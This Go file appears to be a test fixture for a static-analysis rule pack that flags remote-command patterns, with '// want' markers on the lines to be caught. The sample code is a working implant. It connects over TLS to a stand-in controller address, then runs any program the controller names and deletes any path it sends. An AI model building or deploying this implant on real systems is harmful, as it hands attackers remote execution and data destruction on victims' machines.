// Annotated samples for the remote-command pack (Go): an implant whose controller sends
// protobuf envelopes, dispatched through a table keyed by message numbers.
package main

import (
	"crypto/tls"
	"encoding/binary"
	"io"
	"os"
	"os/exec"

	"google.golang.org/protobuf/proto"

	pb "example.com/implant/protobuf"
)

type handler func(data []byte)

var handlers = map[uint32]handler{
	pb.MsgExecReq:   execHandler,
	pb.MsgRemoveReq: removeHandler,
}

func execHandler(data []byte) {
	req := &pb.ExecReq{}
	if err := proto.Unmarshal(data, req); err != nil {
		return
	}
	exec.Command(req.Path, req.Args...).Run() // want "remote-command/process-from-network"
}

func removeHandler(data []byte) {
	req := &pb.RemoveReq{}
	proto.Unmarshal(data, req)
	os.RemoveAll(req.Path) // want "remote-command/file-operation-from-network"
}

func readEnvelope(conn *tls.Conn) (*pb.Envelope, error) {
	var size uint32
	if err := binary.Read(conn, binary.LittleEndian, &size); err != nil {
		return nil, err
	}
	buf := make([]byte, size)
	if _, err := io.ReadFull(conn, buf); err != nil {
		return nil, err
	}
	env := &pb.Envelope{}
	err := proto.Unmarshal(buf, env)
	return env, err
}

func serve(conn *tls.Conn) {
	for {
		env, err := readEnvelope(conn)
		if err != nil {
			return
		}
		if h, ok := handlers[env.Type]; ok { // want "remote-command/dispatcher"
			h(env.Data)
		}
	}
}

// selfTest runs the same handlers on a message built in the binary.
func selfTest() {
	env := &pb.Envelope{Type: pb.MsgRemoveReq}
	if h, ok := handlers[env.Type]; ok { // ok: the envelope is built locally
		h([]byte("/tmp/implant.selftest"))
	}
}

func main() {
	selfTest()
	conn, err := tls.Dial("tcp", "198.51.100.20:8443", &tls.Config{})
	if err != nil {
		return
	}
	serve(conn)
}
